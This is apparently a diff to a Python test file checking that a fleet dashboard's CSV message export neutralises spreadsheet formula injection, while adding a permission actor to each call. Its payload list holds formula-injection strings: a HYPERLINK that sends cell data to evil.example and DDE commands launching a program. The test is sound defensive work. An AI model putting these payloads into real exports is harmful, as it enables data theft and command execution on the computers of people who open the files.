@@ -6,6 +6,7 @@ import csv
 import io
 
 from fleet_dashboard.services import export, messaging, templates
+from fleet_dashboard.services.permissions import SYSTEM
 
 PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
@@ -17,17 +18,18 @@ def _parse(text: str) -> list[dict[str, str]]:
 
 def test_cells_that_a_spreadsheet_would_run_are_neutralised(db, make_org):
     org = make_org()
-    templates.create(session=db, org_id=org.id, name="raw", message_template="{{note}}")
+    templates.create(session=db, org_id=org.id, name="raw", message_template="{{note}}", actor=SYSTEM)
     for payload in PAYLOADS:
         # Through a template variable, as an API caller would supply it.
         messaging.create_message(session=db, org_id=org.id, recipient="+201001234567", template_name="raw",
-                                 variables={"note": payload})
-    failed, _ = messaging.create_message(session=db, org_id=org.id, recipient="+201001234568", text="plain")
+                                 variables={"note": payload}, actor=SYSTEM)
+    failed, _ = messaging.create_message(session=db, org_id=org.id, recipient="+201001234568", text="plain",
+                                         actor=SYSTEM)
     failed.error = "=2+5"
     db.add(failed)
     db.commit()
 
-    data, rows = export.messages_csv(session=db, org_id=org.id)
+    data, rows = export.messages_csv(session=db, org_id=org.id, actor=SYSTEM)
     parsed = _parse(data)
     assert rows == len(parsed) == len(PAYLOADS) + 1
     bodies = {row["message_body"] for row in parsed}
@@ -45,16 +47,16 @@ def test_cells_that_a_spreadsheet_would_run_are_neutralised(db, make_org):
 def test_export_pages_through_filters_and_stops_at_the_cap(db, make_org):
     org, other = make_org(), make_org("Other")
     for i in range(7):
-        messaging.create_message(session=db, org_id=org.id, recipient="+201001234567", text=f"m{i}")
-    messaging.create_message(session=db, org_id=other.id, recipient="+201001234567", text="not ours")
+        messaging.create_message(session=db, org_id=org.id, recipient="+201001234567", text=f"m{i}", actor=SYSTEM)
+    messaging.create_message(session=db, org_id=other.id, recipient="+201001234567", text="not ours", actor=SYSTEM)
     db.commit()
-    chunks = list(export.MessagesCsv(session=db, org_id=org.id, page_rows=3))
+    chunks = list(export.MessagesCsv(session=db, org_id=org.id, actor=SYSTEM, page_rows=3))
     assert len(chunks) == 1 + 3, "a header, then one chunk per page"
     assert {r["message_body"] for r in _parse("".join(chunks))} == {f"m{i}" for i in range(7)}
 
-    capped = export.MessagesCsv(session=db, org_id=org.id, max_rows=5, page_rows=3)
+    capped = export.MessagesCsv(session=db, org_id=org.id, actor=SYSTEM, max_rows=5, page_rows=3)
     assert len(_parse("".join(capped))) == capped.rows == 5
-    data, rows = export.messages_csv(session=db, org_id=org.id, filters={"search": "m6"})
+    data, rows = export.messages_csv(session=db, org_id=org.id, actor=SYSTEM, filters={"search": "m6"})
     assert rows == 1 and _parse(data)[0]["message_body"] == "m6"
 
 
